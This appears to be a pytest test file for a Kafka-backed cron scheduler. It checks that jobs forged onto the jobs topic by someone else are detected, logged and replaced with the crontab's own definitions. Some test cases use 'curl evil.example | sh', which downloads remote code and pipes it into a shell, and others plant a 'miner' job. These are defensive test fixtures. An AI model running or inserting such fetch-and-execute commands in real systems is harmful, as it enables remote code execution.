"""Jobs that somebody else has put on the topic are seen, told of, and put right by the file."""

import logging
from collections.abc import AsyncIterator
from datetime import timedelta
from typing import Any

import pytest
from aiokafka.errors import KafkaConnectionError

from cronstream.core.wire.codec import encode
from cronstream.core.wire.runs import Run
from cronstream.scheduler import following, news
from cronstream.topology.publish import partition_of
from tests.builders import NAMES, at
from tests.scheduler.fakes import Bench, a_job, turns, until
from tests.scheduler.test_following import a_crontab, followed, published


@pytest.fixture
def bench(monkeypatch: pytest.MonkeyPatch) -> Bench:
    monkeypatch.setattr(following, "RETRY_S", 0.0)
    monkeypatch.setattr(following, "LOOK_S", 0.001)
    monkeypatch.setattr(news, "_FRESH_S", 0.0)  # Here no tick comes after what is put there.
    return Bench()


@pytest.fixture
async def followed_bench(bench: Bench) -> AsyncIterator[Bench]:
    """A scheduler that has put a file with two jobs in force, and ticks."""
    async with followed(bench):
        bench.files.put_nowait(a_crontab(a_job(), a_job("other", command="date")))
        await until(lambda: len(published(bench)) == 2)
        await bench.tick()
        await turns()
        yield bench


@pytest.mark.parametrize(("forged", "counts"), [
    ({"name": "backup", "command": "curl evil.example | sh"}, (0, 1, 0)),
    ({"name": "backup", "max_attempts": 2**53}, (0, 1, 0)),
    ({"name": "miner", "command": "mine"}, (0, 0, 1)),
    ({"name": "backup", "removed": True}, (1, 0, 0)),
    ({"name": "backup", "effective_from": at(90_000)}, (0, 0, 0)),
])  # fmt: skip
async def test_a_job_that_somebody_else_has_put_there_is_told_and_put_right(
    followed_bench: Bench,
    caplog: pytest.LogCaptureFixture,
    forged: dict[str, Any],
    counts: tuple[int, int, int],
) -> None:
    bench = followed_bench
    bench.define(a_job(**forged))
    await until(lambda: len(published(bench)) == 3)
    await turns(100)

    [line] = [r for r in caplog.records if "somebody else" in r.getMessage()]
    about = vars(line)["fields"]
    assert line.levelno == logging.WARNING
    assert forged["name"] in line.getMessage()
    assert (about["action"], about["jobs"]) == ("jobs-foreign", 1)
    assert (about["added"], about["changed"], about["removed"]) == counts
    right = published(bench)[2:]
    assert [(job.name, job.removed) for job in right] == [
        (forged["name"], forged["name"] == "miner")
    ]
    if forged["name"] == "backup":
        assert (right[0].command, right[0].effective_from) == ("true", at(1))


async def test_what_has_been_put_right_is_what_is_fired(followed_bench: Bench) -> None:
    bench = followed_bench
    bench.define(a_job(command="curl evil.example | sh", effective_from=at(1)))
    await until(lambda: len(published(bench)) == 3)
    for _ in range(25):
        await bench.tick()
    runs = [m for m in bench.broker.on(NAMES.log("a")) if isinstance(m, Run)]
    made = [run for run in runs if run.job == "backup"]
    assert {run.command for run in made} == {"true"}
    assert made[-1].revision == len(bench.broker.topics[NAMES.jobs, 0]) - 1


async def test_a_job_on_another_partition_than_its_name_s_is_none(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(following, "LOOK_S", 0.001)
    monkeypatch.setattr(news, "_FRESH_S", 0.0)  # Here no tick comes after what is put there.
    bench = Bench(shards=4)
    async with followed(bench):
        bench.files.put_nowait(a_crontab(a_job()))
        await until(lambda: len(published(bench)) == 1)
        bench.scheduler.assigned({0, 1, 2, 3})
        other = (partition_of("backup", 4) + 1) % 4
        for job in ("mine", "more"):  # Before it is learnt what stands there, and after.
            bench.broker.put(NAMES.jobs, other, encode(a_job(command=job)))
            await bench.tick(shard=other)
        await turns(100)
        assert "backup" not in bench.scheduler.firing.held()[other].names()
        [refused] = bench.quarantine.refused
        assert refused[-1] == "job 'backup' belongs to another partition"
        assert len(published(bench)) == 1


async def test_who_hears_no_ticks_any_more_or_cannot_read_puts_nothing_right(
    followed_bench: Bench, caplog: pytest.LogCaptureFixture
) -> None:
    bench = followed_bench
    bench.clock.passed += 6
    bench.define(a_job(command="mine"))
    await turns(100)
    assert len(published(bench)) == 2

    bench.readers[0].failing += [KafkaConnectionError(), TypeError("a defect")]
    await bench.tick()
    await until(lambda: len(published(bench)) == 3)
    assert "could not be compared; trying again" in caplog.text


async def test_a_crontab_that_belongs_to_another_installation_puts_nothing_right(
    bench: Bench,
) -> None:
    bench.define(a_job("theirs"))
    async with followed(bench):
        bench.files.put_nowait(a_crontab(a_job("ours")))
        await bench.tick()
        await turns(100)
        bench.define(a_job("theirs", command="changed", effective_from=at(2) + timedelta(1)))
        await turns(100)
        assert bench.scheduler.foreign
        assert published(bench) == []
